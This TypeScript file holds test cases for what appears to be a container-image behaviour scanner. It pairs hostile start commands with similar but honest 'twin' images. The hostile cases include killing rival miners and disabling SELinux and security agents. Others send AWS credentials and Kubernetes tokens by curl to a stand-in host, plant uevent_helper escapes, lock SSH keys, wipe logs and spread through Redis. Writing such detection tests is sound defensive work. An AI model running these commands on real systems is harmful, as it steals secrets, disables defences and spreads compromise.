import { base64, type ImageCase, image, starts } from './image-case.ts';

const IP = '203.0.113.81';

function does(rule: string, text: string, severity: ImageCase['severity'] = 'medium'): ImageCase {
  return { name: `${rule}: ${text}`, spec: starts(text), rule: `start/${rule}`, severity };
}

/** What hostile images do once they run. */
export const BEHAVIOUR_CASES: readonly ImageCase[] = [
  does('kills-rivals', 'pkill -9 -f xmrig\nkillall kdevtmpfsi minerd', 'high'),
  does('kills-rivals', `bash -c "$(echo ${base64('pkill xmrig; pkill -f kinsing')} | base64 -d)"`, 'high'),
  does(
    'kills-rivals',
    "ps aux \\\n | grep -E 'xmr''ig|kinsing' | awk '{print $2}' | while read p; do /bin/kill -9 $p; done",
    'high',
  ),
  does(
    'kills-rivals',
    `#!/usr/bin/env python3\nimport subprocess\nfor n in ("a",):\n    subprocess.call(["pkill", "-f", "xmrig"])\n    subprocess.call("killall -9 kinsing minerd", shell=True)`,
    'high',
  ),
  does('disables-defences', 's=aliyun\nsystemctl stop "$s".service && systemctl disable $s', 'high'),
  does('disables-defences', 'if [ -d /usr/local/aegis ]; then\n  rm -rf /usr/local/aegis*\nfi', 'high'),
  does('disables-defences', 'setenforce 0 2>/dev/null || true'),
  does('tunes-for-mining', 'modprobe msr 2>/dev/null; wrmsr -a 0x1a4 0xf\nsysctl -w vm.nr_hugepages=1280'),
  does('escapes', 'mkdir -p /run/x\necho /tmp/x > /sys/kernel/uevent_helper', 'high'),
  does('fakes-name', 'ln -s /run/x.pid /run/sendsigs.omit.d/sshd\n/run/sendsigs.omit.d/sshd'),
  does('fakes-name', "exec -a '[kworker/0:0]' /opt/agent", 'high'),
  does('makes-immutable', 'mkdir -p /root/.ssh\nchattr +i /root/.ssh/authorized_keys', 'high'),
  does('wipes-traces', 'history -c\ncat /dev/null > /var/log/wtmp\nrm -f "$0"'),
  does('sends-secrets', `curl -s -X POST -d "$(cat ~/.aws/credentials)" http://${IP}/in`, 'high'),
  does(
    'sends-secrets',
    `K=/var/run/secrets/kubernetes.io/serviceaccount/token\ncurl --data-binary @$K https://in.collect.example/`,
    'high',
  ),
  does(
    'spreads',
    'masscan 172.16.0.0/12 -p6379 -oL /tmp/r\nwhile read -r _ _ _ h _; do redis-cli -h "$h" config set dir /var/spool/cron; done < /tmp/r',
    'high',
  ),
  {
    name: 'a cron table that kills rivals and defends itself',
    spec: image(
      { 'etc/cron.d/u': '* * * * * root pkill xmrig; pkill kinsing; chattr +i /etc/cron.d/u\n' },
      { Cmd: ['cron', '-f'] },
    ),
    rule: 'start/kills-rivals',
    severity: 'critical',
  },
];

/** Images that do the like and are honest. */
export const BEHAVIOUR_TWINS: readonly ImageCase[] = [
  [
    'a database with huge pages',
    'sysctl -w vm.nr_hugepages=1024 || true\nsysctl -w vm.swappiness=1\nexec postgres',
  ],
  [
    'a development image that installs at start',
    'apt-get update && apt-get install -y ${EXTRA_APT_PACKAGES:-vim git}\npip install -r requirements.txt\nexec "$@"',
  ],
  [
    'kube-proxy and its tables',
    'iptables -t nat -F\niptables -F\niptables -t nat -A PREROUTING -j KUBE-SERVICES\nexec /usr/local/bin/kube-proxy',
  ],
  [
    'a VPN with resolv.conf',
    'iptables -P FORWARD ACCEPT\niptables -t nat -A POSTROUTING -o tun0 -j MASQUERADE\necho "nameserver 10.8.0.1" > /etc/resolv.conf\nchattr +i /etc/resolv.conf\nexec openvpn --config /vpn/c.ovpn',
  ],
  [
    'a client of the cluster',
    'SA=/var/run/secrets/kubernetes.io/serviceaccount\nTOKEN=$(cat $SA/token)\ncurl -s --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" -d "{}" https://kubernetes.default.svc/api/v1/namespaces/default/events\nexec /app',
  ],
  [
    'a cloud image that looks up its region',
    'export AWS_REGION=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nexec amazon-ssm-agent',
  ],
  [
    'a service that restarts its workers',
    'pkill -f "celery worker" || true\nps aux | grep gunicorn | grep -v grep | awk "{print \\$2}" | xargs -r kill\nexec gunicorn app:app',
  ],
  [
    'logs to the console',
    'ln -sf /dev/stdout /var/log/nginx/access.log\nln -sf /dev/stderr /var/log/nginx/error.log\nexec nginx -g "daemon off;"',
  ],
  ['a wrapper that keeps its name', 'exec -a "$0" /usr/lib/jvm/bin/java -jar /app.jar "$@"'],
  [
    'a login to Vault',
    'JWT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s -X POST -d "{\\"role\\": \\"app\\", \\"jwt\\": \\"$JWT\\"}" https://vault.example.com/v1/auth/kubernetes/login > /tmp/v\nexec /app',
  ],
].map(([name = '', text = '']) => ({ name, spec: starts(text) }));
